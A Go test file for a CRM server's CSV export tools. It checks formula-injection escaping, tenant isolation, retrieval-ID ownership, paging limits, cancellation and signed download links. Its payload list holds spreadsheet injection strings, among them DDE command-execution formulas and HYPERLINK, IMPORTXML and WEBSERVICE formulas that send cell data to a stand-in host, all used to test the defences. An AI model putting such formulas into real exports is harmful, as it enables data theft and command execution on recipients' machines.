package crmtools_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"golang.org/x/text/unicode/norm"

	"github.com/crm-mcp/crm-mcp/internal/crm"
	"github.com/crm-mcp/crm-mcp/internal/crm/api"
	"github.com/crm-mcp/crm-mcp/internal/export"
	"github.com/crm-mcp/crm-mcp/internal/tenant"
)

// exporter is alice with crm:export.
var exporter = func() tenant.Principal {
	p := alice
	p.Scopes = []string{"crm:read", "crm:export"}
	return p
}()

// slowCRM wraps the fake CRM: hook runs before every GetPeople (the
// export's pages) with the call's number, from 0.
type slowCRM struct {
	*fakeCRM
	calls atomic.Int32
	hook  func(ctx context.Context, n int) error
}

func (s *slowCRM) GetPeople(ctx context.Context, ids []string) ([]crm.Person, error) {
	n := int(s.calls.Add(1)) - 1
	if s.hook != nil {
		if err := s.hook(ctx, n); err != nil {
			return nil, err
		}
	}
	return s.fakeCRM.GetPeople(ctx, ids)
}

// exportResult is an export tool's answer.
type exportResult struct {
	raw  *mcp.CallToolResult
	text string
	data map[string]any
	csv  string // the embedded file, if any
	link *mcp.ResourceLink
}

func callExport(t *testing.T, cs *mcp.ClientSession, name string, args map[string]any) exportResult {
	t.Helper()
	r, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: protocol error: %v", name, err)
	}
	out := exportResult{raw: r}
	if len(r.Content) == 0 {
		t.Fatalf("%s: no content", name)
	}
	tc, ok := r.Content[0].(*mcp.TextContent)
	if !ok {
		t.Fatalf("%s: first content is %T, want text", name, r.Content[0])
	}
	out.text = tc.Text
	checkFenced(t, name, tc.Text)
	if r.IsError {
		if len(r.Content) != 1 {
			t.Fatalf("%s: error result with %d content items", name, len(r.Content))
		}
		return out
	}
	if len(r.Content) != 2 {
		t.Fatalf("%s: %d content items, want the text and the file", name, len(r.Content))
	}
	switch c := r.Content[1].(type) {
	case *mcp.EmbeddedResource:
		if c.Resource == nil || c.Resource.MIMEType != "text/csv" || !strings.HasPrefix(c.Resource.URI, "crm-mcp://exports/export-exp_") {
			t.Fatalf("%s: embedded resource %+v, want text/csv", name, c.Resource)
		}
		out.csv = c.Resource.Text
	case *mcp.ResourceLink:
		out.link = c
	default:
		t.Fatalf("%s: second content is %T", name, c)
	}
	b, _ := json.Marshal(r.StructuredContent)
	if err := json.Unmarshal(b, &out.data); err != nil {
		t.Fatal(err)
	}
	return out
}

// parseCSV is a strict RFC 4180 reader (CRLF records, quoted fields with
// doubled quotes, nothing after a closing quote but a comma or CRLF).
func parseCSV(t *testing.T, data string) [][]string {
	t.Helper()
	var recs [][]string
	var rec []string
	var f strings.Builder
	for i := 0; i < len(data); {
		f.Reset()
		if data[i] == '"' {
			for i++; ; {
				if i >= len(data) {
					t.Fatalf("unterminated quote in %q", data)
				}
				if data[i] == '"' {
					if i+1 < len(data) && data[i+1] == '"' {
						f.WriteByte('"')
						i += 2
						continue
					}
					i++
					break
				}
				f.WriteByte(data[i])
				i++
			}
		} else {
			for i < len(data) && data[i] != ',' && data[i] != '\r' && data[i] != '\n' {
				if data[i] == '"' {
					t.Fatalf("bare quote in %q", data)
				}
				f.WriteByte(data[i])
				i++
			}
		}
		rec = append(rec, f.String())
		switch {
		case i < len(data) && data[i] == ',':
			i++
		case strings.HasPrefix(data[i:], "\r\n"):
			i += 2
			recs, rec = append(recs, rec), nil
		default:
			t.Fatalf("bad byte at %d in %q", i, data)
		}
	}
	if rec != nil {
		t.Fatalf("file does not end in CRLF")
	}
	return recs
}

// formulaLike: after white space and invisible characters, the cell
// starts with something NFKC folds to = + - @, or with a tab, CR, LF or
// NUL.
func formulaLike(cell string) bool {
	if cell != "" && strings.ContainsRune("\t\r\n\x00", rune(cell[0])) {
		return true
	}
	rest := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.In(r, unicode.Cf) })
	if rest == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(rest)
	f := norm.NFKC.String(string(r))
	return strings.ContainsAny(f[:1], "=+-@") || r == '\u2212'
}

// payloads are the stored values of security catalog §O.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1",
	"=cmd|' /C calc'!A0", `=DDE("cmd";"/C calc";"!A0")`, "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
	`=HYPERLINK("https://evil.example/?d="&A2,"Click")`, `=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`, `=WEBSERVICE("https://evil.example/"&A2)`,
	" =1+1", "\u00a0=1+1", "\u3000=1+1",
	`a","=1+1`, `=1+2";=1+2`, "a;=1+1", "a\"\n=1+1",
	"'=1+1", "-42", "+1 555 0100", "＝1+1", "＋1", "－1", "＠A1",
}

func TestExportPeopleCatalogPayloads(t *testing.T) {
	e := newEnv(t)
	for _, p := range payloads {
		e.addPerson(alice, crm.Person{FirstName: "Payload", LastName: p, Headline: p, Emails: []string{p}, Skills: []string{p, "x"}, Location: p})
	}
	cs := e.session(&exporter)
	r := callExport(t, cs, "exportPeopleCsv", map[string]any{"query": "Payload"})
	if r.data["reason"] != "complete" || r.data["rows"] != float64(len(payloads)) || r.data["delivery"] != "embedded" {
		t.Fatalf("structuredContent = %v", r.data)
	}
	if !strings.Contains(r.text, "Exported 30 of 30 rows: complete.") {
		t.Errorf("text:\n%s", r.text)
	}
	recs := parseCSV(t, r.csv)
	if len(recs) != len(payloads)+1 {
		t.Fatalf("%d records, want header + %d", len(recs), len(payloads))
	}
	header := recs[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %q", name, header)
		return -1
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		if len(rec) != len(header) {
			t.Fatalf("record has %d cells, header %d: %q", len(rec), len(header), rec)
		}
		for _, cell := range rec {
			if formulaLike(cell) {
				t.Errorf("cell %q starts with a formula trigger", cell)
			}
		}
		last := rec[col("lastName")]
		seen[last] = true
		if rec[col("headline")] != last || rec[col("location")] != last || rec[col("emails")] != last {
			t.Errorf("the same payload differs between columns: %q", rec)
		}
	}
	// Every payload arrived as one cell, changed at most by the prefix
	// (and by the output sanitiser, which drops CR and NUL).
	for _, p := range payloads {
		want := strings.NewReplacer("\r", "", "\x00", "").Replace(p)
		if !seen[want] && !seen["'"+want] {
			t.Errorf("payload %q not found as one cell", p)
		}
	}
}

func TestExportPeopleTenantCanary(t *testing.T) {
	e := newEnv(t)
	const canary = "CANARY-T2-5e1f"
	e.seedWorld(bob, canary)
	e.seedWorld(alice, "Mine")
	e.seedPeople(alice, 3)
	cs := e.session(&exporter)
	bobJob := func() string {
		for id := range e.tenantOf(bob).jobs {
			return id
		}
		return ""
	}()
	for _, args := range []map[string]any{
		{}, {"query": canary}, {"query": "%"}, {"filters": map[string]any{"ownerId": bob.UserID}},
		{"filters": map[string]any{"jobId": bobJob}},
	} {
		r := callExport(t, cs, "exportPeopleCsv", args)
		raw, _ := json.Marshal(r.raw)
		if strings.Contains(string(raw), canary) || strings.Contains(string(raw), bob.Email) {
			t.Errorf("%v: T2 data in the export:\n%s", args, raw)
		}
	}
	// Another tenant's job id is answered like an unknown one (M-01).
	a := callExport(t, cs, "exportPipelineCsv", map[string]any{"jobId": bobJob})
	b := callExport(t, cs, "exportPipelineCsv", map[string]any{"jobId": "job_doesnotexist"})
	if !a.raw.IsError || normalise(strings.ReplaceAll(a.text, bobJob, "X")) != normalise(strings.ReplaceAll(b.text, "job_doesnotexist", "X")) {
		t.Errorf("foreign job answered differently from an unknown one:\n%s\n%s", a.text, b.text)
	}
}

func TestExportPeopleRetrievalID(t *testing.T) {
	e := newEnv(t)
	ids := e.seedPeople(alice, 30)
	cs := e.session(&exporter)
	s := mustOK(t, call(t, cs, "searchPeople", map[string]any{"query": "Seed", "pageSize": 5}), "searchPeople")
	rid, _ := s.Data["retrievalId"].(string)
	if rid == "" {
		t.Fatal("no retrievalId")
	}
	r := callExport(t, cs, "exportPeopleCsv", map[string]any{"retrievalId": rid, "query": "ignored", "columns": []string{"lastName", "id"}})
	recs := parseCSV(t, r.csv)
	if strings.Join(recs[0], ",") != "lastName,id" || len(recs) != 31 {
		t.Fatalf("header %q and %d records, want lastName,id and 30", recs[0], len(recs)-1)
	}
	for i, rec := range recs[1:] {
		if rec[1] != ids[i] {
			t.Fatalf("row %d is %s, want the search's order (%s)", i, rec[1], ids[i])
		}
	}
	// Another user's or tenant's session cannot use the retrievalId.
	for _, p := range []tenant.Principal{amy, bob} {
		p.Scopes = []string{"crm:export"}
		r := callExport(t, e.session(&p), "exportPeopleCsv", map[string]any{"retrievalId": rid})
		if !r.raw.IsError || !strings.Contains(r.text, "expired") || strings.Contains(r.text, "Seed") {
			t.Errorf("%s used alice's retrievalId:\n%s", p.UserID, r.text)
		}
	}
	// An unknown column is refused; no column outside the allow-list can
	// be asked for.
	for _, c := range []string{"tenantId", "notes", "TenantID"} {
		r := callExport(t, cs, "exportPeopleCsv", map[string]any{"columns": []string{"id", c}})
		if !r.raw.IsError || !strings.Contains(r.text, "unknown column") {
			t.Errorf("column %s: %s", c, r.text)
		}
	}
}

func TestExportReasons(t *testing.T) {
	errAPI := &api.Error{Status: 500, Code: "internal"}
	tests := []struct {
		name   string
		lim    export.Limits
		hook   func(ctx context.Context, n int) error
		reason string
		rows   float64
		text   string
		code   string
	}{
		{name: "cap", lim: export.Limits{MaxRows: 5}, reason: "cap", rows: 5,
			text: "Exported 5 of 12 rows: row cap reached (at most 5 rows per export)."},
		{name: "deadline with a slowed API", lim: export.Limits{PageSize: 2, Deadline: 150 * time.Millisecond, PageTimeout: 2 * time.Second},
			hook: func(ctx context.Context, _ int) error {
				select {
				case <-time.After(60 * time.Millisecond):
					return nil
				case <-ctx.Done():
					return ctx.Err()
				}
			}, reason: "deadline", rows: -1, text: "deadline reached"},
		{name: "per-page timeout with one hanging page", lim: export.Limits{PageSize: 4, PageTimeout: 50 * time.Millisecond},
			hook: func(ctx context.Context, n int) error {
				if n == 1 {
					<-ctx.Done()
					return ctx.Err()
				}
				return nil
			}, reason: "incomplete", rows: 4, text: "Exported 4 of 12 rows: incomplete, the CRM did not answer a page within 50ms.", code: "deadline"},
		{name: "incomplete on an API error", lim: export.Limits{PageSize: 4},
			hook: func(_ context.Context, n int) error {
				if n == 2 {
					return errAPI
				}
				return nil
			}, reason: "incomplete", rows: 8, text: "Exported 8 of 12 rows: incomplete, the CRM failed during the export.", code: "api_internal"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			e.seedPeople(alice, 12)
			slow := &slowCRM{fakeCRM: e.crm, hook: tt.hook}
			e.deps.CRM, e.deps.ExportLimits = slow, tt.lim
			start := time.Now()
			r := callExport(t, e.session(&exporter), "exportPeopleCsv", nil)
			if time.Since(start) > 3*time.Second {
				t.Errorf("took %v", time.Since(start))
			}
			if r.raw.IsError {
				t.Fatalf("error result: %s", r.text)
			}
			recs := parseCSV(t, r.csv)
			if r.data["reason"] != tt.reason || float64(len(recs)-1) != r.data["rows"] {
				t.Errorf("reason %v rows %v (file %d), want %s", r.data["reason"], r.data["rows"], len(recs)-1, tt.reason)
			}
			if tt.rows >= 0 && r.data["rows"] != tt.rows {
				t.Errorf("rows = %v, want %v", r.data["rows"], tt.rows)
			}
			if tt.rows < 0 && (r.data["rows"] == float64(0) || r.data["rows"] == float64(12)) {
				t.Errorf("rows = %v, want some but not all", r.data["rows"])
			}
			if !strings.Contains(r.text, tt.text) || !strings.Contains(r.data["summary"].(string), tt.text) {
				t.Errorf("text and summary should say %q:\n%s\n%v", tt.text, r.text, r.data["summary"])
			}
			if tt.code != "" && !strings.Contains(e.logs.String(), `"code":"`+tt.code+`"`) {
				t.Errorf("log lacks code %s:\n%s", tt.code, e.logs.String())
			}
		})
	}
}

// TestExportCancelled: a cancelled tools/call stops paging within one
// page.
func TestExportCancelled(t *testing.T) {
	e := newEnv(t)
	e.seedPeople(alice, 40)
	inFlight, stopped := make(chan struct{}), make(chan struct{})
	var once sync.Once
	slow := &slowCRM{fakeCRM: e.crm, hook: func(ctx context.Context, n int) error {
		if n == 1 {
			once.Do(func() { close(inFlight) })
			<-ctx.Done()
			close(stopped)
			return ctx.Err()
		}
		return nil
	}}
	e.deps.CRM, e.deps.ExportLimits = slow, export.Limits{PageSize: 4, PageTimeout: 10 * time.Second}
	cs := e.session(&exporter)
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() {
		_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exportPeopleCsv", Arguments: map[string]any{}})
		done <- err
	}()
	select {
	case <-inFlight:
	case <-time.After(5 * time.Second):
		t.Fatal("second page never asked for")
	}
	cancel()
	select {
	case <-stopped:
	case <-time.After(5 * time.Second):
		t.Fatal("the page in flight was not cancelled")
	}
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Errorf("CallTool = %v, want context.Canceled", err)
	}
	time.Sleep(100 * time.Millisecond)
	if n := slow.calls.Load(); n != 2 {
		t.Errorf("%d pages asked for, want 2 (none after the cancellation)", n)
	}
}

func TestExportPipeline(t *testing.T) {
	e := newEnv(t)
	w := e.seedWorld(alice, "=HYPERLINK(\"https://evil.example\")")
	cs := e.session(&exporter)
	r := callExport(t, cs, "exportPipelineCsv", map[string]any{"jobId": w.job.ID})
	recs := parseCSV(t, r.csv)
	if len(recs) != 2 || r.data["reason"] != "complete" {
		t.Fatalf("records %q, data %v", recs, r.data)
	}
	got := map[string]string{}
	for i, h := range recs[0] {
		got[h] = recs[1][i]
	}
	if got["applicationId"] != w.app.ID || got["personId"] != w.person.ID || got["stage"] != "sourced" || got["jobId"] != w.job.ID ||
		got["firstName"] != `'=HYPERLINK("https://evil.example")` || got["jobTitle"] != `'=HYPERLINK("https://evil.example") Engineer` {
		t.Errorf("row = %v", got)
	}
	for _, cell := range recs[1] {
		if formulaLike(cell) {
			t.Errorf("cell %q starts with a trigger", cell)
		}
	}
	// A stage filter that matches nothing gives the header only.
	r = callExport(t, cs, "exportPipelineCsv", map[string]any{"jobId": w.job.ID, "stage": "offer", "columns": []string{"personId", "stage"}})
	if recs := parseCSV(t, r.csv); len(recs) != 1 || strings.Join(recs[0], ",") != "personId,stage" || r.data["totalRows"] != float64(0) {
		t.Errorf("offer stage export: %q %v", recs, r.data)
	}
}

// TestExportLink: a file over the embed limit is published behind a
// signed link, returned as a resource_link; only its owner can fetch it.
func TestExportLink(t *testing.T) {
	e := newEnv(t)
	e.seedPeople(alice, 20)
	mux := http.NewServeMux()
	srv := httptest.NewServer(mux)
	defer srv.Close()
	links, err := export.NewLinks(export.LinkOptions{Key: []byte("k0123456789abcdef0123456789abcdef"), Store: e.snaps, BaseURL: srv.URL + "/mcp/exports", Now: e.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	mux.Handle(export.Pattern, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p := exporter
		if r.Header.Get("X-As") == "bob" {
			p = bob
			p.Scopes = []string{"crm:export"}
		}
		links.ServeHTTP(w, r.WithContext(tenant.WithPrincipal(r.Context(), p)))
	}))
	e.deps.Exports, e.deps.ExportEmbedMax = links, 200
	r := callExport(t, e.session(&exporter), "exportPeopleCsv", nil)
	if r.link == nil || r.data["delivery"] != "link" || r.link.URI != r.data["downloadUrl"] || r.link.MIMEType != "text/csv" || r.link.Name == "" {
		t.Fatalf("want a resource_link matching downloadUrl; link %+v, data %v", r.link, r.data)
	}
	if !strings.Contains(r.text, r.link.URI) || !strings.Contains(r.text, "Exported 20 of 20 rows: complete.") {
		t.Errorf("text lacks the link or the summary:\n%s", r.text)
	}
	fetch := func(as string) (int, string) {
		req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, r.link.URI, nil)
		req.Header.Set("X-As", as)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	status, body := fetch("alice")
	if recs := parseCSV(t, body); status != http.StatusOK || len(recs) != 21 || int64(len(body)) != *r.link.Size {
		t.Errorf("owner download: %d, %d records, %d bytes (link says %d)", status, len(recs), len(body), *r.link.Size)
	}
	if status, _ := fetch("bob"); status != http.StatusNotFound {
		t.Errorf("another tenant's download: %d, want 404", status)
	}
	// Without a publisher, a large export fails with a message.
	e.deps.Exports = nil
	r = callExport(t, e.session(&exporter), "exportPeopleCsv", nil)
	if !r.raw.IsError || !strings.Contains(r.text, "too large") {
		t.Errorf("no publisher: %s", r.text)
	}
}
